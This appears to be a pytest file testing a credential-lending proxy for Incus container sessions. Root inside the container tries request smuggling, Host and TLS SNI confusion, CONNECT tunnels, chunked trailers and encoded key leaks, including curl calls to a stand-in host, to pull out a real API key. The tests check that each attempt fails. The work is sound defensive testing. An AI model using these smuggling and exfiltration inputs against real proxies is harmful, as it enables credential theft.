"""What root in a container tries with the placeholders of its session, on a real Incus: no secret comes of it."""

from __future__ import annotations

import base64
import gzip
import json
import os
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from typing import Any, NamedTuple

import pytest
from login_box import ADDRESS, Box, lending_server, vendor_of

from tests.more_tools import mounts
from tests.programs import Server, wait_until
from tests.table import table

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="a file of host names of the test's own needs root")
KEY = "sk-ant-api03-the-real-key-Zq8vX2"
API, OTHER = "api.anthropic.com", "other.example"  # two names of one address
CONFIG = f"""[network]
reachable = ["{ADDRESS}/32"]
[defaults]
logins = ["anthropic"]
[logins.anthropic]
from = {{ env = "REAL_KEY" }}
"""


class Raw(BaseHTTPRequestHandler):
    """Notes all bytes that come, and answers each connection once."""

    server: Any

    def handle(self) -> None:
        data = b""
        self.connection.settimeout(2.0)
        try:
            while piece := self.connection.recv(65536):
                data += piece
                if b"\r\n\r\n" in data:
                    break
            body = json.dumps(data.decode("latin-1")).encode()
            fields = "Set-Cookie: session=of-the-server\r\n"
            if data.startswith(b"GET /compressed "):
                body, fields = gzip.compress(body), "Content-Encoding: gzip\r\n"
            if data.startswith(b"GET /echoed "):  # in heads, before the answer too
                key = data.lower().partition(b"x-api-key: ")[2].partition(b"\r\n")[0].decode("latin-1")
                self.connection.sendall(f"HTTP/1.1 103 Early Hints\r\nLink: </{key}>\r\n\r\n".encode())
                fields += f"Location: https://{OTHER}/?key={key}\r\n"
            head = f"HTTP/1.1 302 Found\r\n{fields}Content-Length: {len(body)}\r\n\r\n"
            if data:  # a connection may end without a word
                self.server.came.append(data)
            self.connection.sendall(head.encode() + body)
            while piece := self.connection.recv(65536):
                self.server.came.append(piece)
        except OSError:
            pass


@pytest.fixture(scope="module")
def vendor(tmp_path_factory) -> Iterator[Any]:
    with vendor_of(tmp_path_factory.mktemp("vendors"), (API, OTHER), Raw) as made:
        made.came = []
        yield made


@pytest.fixture(scope="module")
def server(start_shared, vendor) -> Server:
    return lending_server(start_shared, vendor, CONFIG + mounts("curl", "/opt/tools/curl"), REAL_KEY=KEY)


@pytest.fixture(scope="module")
def box(bed, server, keep_session, vendor) -> Box:
    return Box(bed, server, keep_session(server, tool="shell")["id"])


class Attack(NamedTuple):
    """What is sent over TLS; `{it}` is the placeholder, and `{percent}`, `{base64}` and `{basic}` are forms of it."""

    text: str
    answer: str  # what the program reads
    alarm: str = ""  # where the placeholder was
    connect: str = API
    name: str = API  # in the ClientHello


def request(*lines: str, first: str = "GET / HTTP/1.1", host: str = API, body: str = "") -> str:
    return "\r\n".join([first, f"Host: {host}", *lines, "", body])


FIELD = "X-Api-Key: {it}"
POST, CHUNKED = "POST / HTTP/1.1", "Transfer-Encoding: chunked"
# unit/test_logins_http1.py and unit/test_logins_lending.py have many more.
ATTACKS = {
    "percent-encoded query": Attack(request(first="GET /?key={percent} HTTP/1.1"), "in the address", "in the address"),
    "another header": Attack(request("Cookie: key={base64}"), "in the header cookie", "in the header cookie"),
    "Basic": Attack(
        request("Authorization: Basic {basic}"), "in the header authorization", "in the header authorization"
    ),
    "twice": Attack(request(FIELD, FIELD), "comes twice"),
    "two Hosts": Attack(request(FIELD, f"Host: {OTHER}"), f"the Host header must be {API}"),
    "a whole address": Attack(request(FIELD, first=f"GET https://{API}@{OTHER}/ HTTP/1.1"), "must begin with /"),
    "a tunnel": Attack(request(FIELD, first=f"CONNECT {OTHER}:443 HTTP/1.1"), "the method CONNECT is not passed"),
    "HTTP/2": Attack("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "not well-formed HTTP/1.1"),
    "length and chunks": Attack(
        request(FIELD, "Content-Length: 5", CHUNKED, first=POST, body="0\r\n\r\n"),
        "either Content-Length or Transfer-Encoding",
    ),
    "a length with a sign": Attack(
        request(FIELD, "Content-Length: +1", first=POST, body="x"), "Content-Length must be one number"
    ),
    "a trailer": Attack(
        request(CHUNKED, first=POST, body="1\r\nx\r\n0\r\nX-Api-Key: {it}\r\n\r\n"), "a trailer is not passed"
    ),
    "a head without end": Attack(request(FIELD, "X-A: " + "a" * 70_000), "more than 64 KiB"),
    "another request behind it": Attack(
        request(FIELD, "Content-Length: 0", first=POST) + request(FIELD, first="GET /smuggled HTTP/1.1", host=OTHER),
        f"the Host header must be {API}",
    ),
    "another name in the ClientHello": Attack(request(FIELD), "", connect=API, name=OTHER),
    "another name in the tunnel": Attack(request(FIELD), "", connect=OTHER, name=API),
}


@table("name", ATTACKS)
def test_an_attack_gets_no_value_anywhere(box, server, vendor, name):
    attack = ATTACKS[name]
    it = box.variable("ANTHROPIC_API_KEY")
    vendor.came.clear()
    forms = {
        "it": it,
        "percent": "".join(f"%{ord(sign):02x}" for sign in it),
        "base64": base64.b64encode(it.encode()).decode(),
        "basic": base64.b64encode(f"me:{it}".encode()).decode(),
    }
    text = attack.text
    for form, value in forms.items():
        text = text.replace(f"{{{form}}}", value)
    said = box.exchange(attack.connect, text, server_name=attack.name, connect=attack.connect)
    assert attack.answer in said
    came = b"".join(vendor.came)
    assert (KEY.encode() in came and "behind" not in name, KEY in said, b"smuggled" in came) == (False, False, False)
    if attack.alarm:
        where = attack.alarm.replace("{it}", it)
        alarms = server.get(f"/api/sessions/{box.id}/network").json["alarms"]
        assert ("anthropic", where, API) in [(one["login"], one["where"], one["host"]) for one in alarms]


def test_what_a_server_answers_and_a_redirect_bring_no_value_in_or_elsewhere(box, vendor):
    """The answer leads to another host, has the value in its head, and sets a cookie that would outlive a revoke."""
    it = box.variable("ANTHROPIC_API_KEY")
    vendor.came.clear()
    fields = ("Range: bytes=0-30", "Accept-Charset: utf-16", "Connection: Upgrade", "Upgrade: h2c")
    said = box.ask(API, f"X-Api-Key: {it}", *fields, target="/echoed")
    assert KEY.encode() in vendor.came[0]
    assert [one for one in (b"Range", b"utf-16", b"h2c") if one in vendor.came[0]] == []
    assert f"Link: </{'*' * len(KEY)}>" in said
    assert f"Location: https://{OTHER}/?key={'*' * len(KEY)}" in said
    assert (KEY.lower() in said.lower(), "session=of-the-server" in said) == (False, False)
    assert "compressed although that was not asked for" in box.ask(API, f"X-Api-Key: {it}", target="/compressed")
    vendor.came.clear()
    box.shell(f"/opt/tools/curl/curl -sk -m 20 -H 'X-Api-Key: {it}' https://{OTHER}/ || true")
    assert (it.encode() in vendor.came[0], KEY.encode() in b"".join(vendor.came)) == (True, False)


def test_a_placeholder_in_a_body_without_tls_or_of_another_session_is_told(bed, box, server, keep_session, vendor):
    it = box.variable("ANTHROPIC_API_KEY")

    def alarms() -> list[str]:
        return [one["where"] for one in server.get(f"/api/sessions/{box.id}/network").json["alarms"]]

    vendor.came.clear()
    body = f"seen: {it} and on"
    box.exchange(API, request(FIELD.replace("{it}", it), f"Content-Length: {len(body)}", first=POST, body=body))
    wait_until(lambda: b"***" in b"".join(vendor.came), "the body")
    assert (it[:20].encode() in b"".join(vendor.came), "in the body" in alarms()) == (False, True)
    said = box.shell(f"/opt/tools/curl/curl -sS -m 20 http://no-login.example/?key={it} 2>&1 || true")
    assert ("in a request without TLS" in said, alarms()[0]) == (True, "in a request without TLS")
    other = Box(bed, server, keep_session(server, tool="shell", folder="two")["id"])
    vendor.came.clear()
    assert "that of another session" in box.ask(API, f"X-Api-Key: {other.variable('ANTHROPIC_API_KEY')}")
    assert (vendor.came, "that of another session" in alarms()[0]) == ([], True)
    assert server.get(f"/api/sessions/{other.id}/network").json["alarms"] == []
    warnings = server.get(f"/api/sessions/{box.id}").json["warnings"]
    assert [one for one in warnings if "the placeholder of the login anthropic was" in one]
    log = f"/api/sessions/{box.id}/log"
    wait_until(lambda: any("Alarm: the placeholder" in one["what"] for one in server.get(log).json), "the journal")


def test_root_has_no_way_to_the_server_but_the_proxy(box):
    """The socket of this host, the keys and the other session are not there; what is there is a placeholder's proxy."""
    assert box.shell("find / -xdev -type s -name '*.sock' -path '*clincus*' 2>/dev/null", 0) == ""
    assert box.shell("ls /run/user/*/clincus-logins* /dev/shm/clincus-logins* 2>/dev/null || true", 0) == ""
    for secret in (KEY, "BEGIN PRIVATE KEY"):
        assert [one for one in box.holders(secret) if "/usr/" not in one and "/etc/ssl/pr" not in one] == []
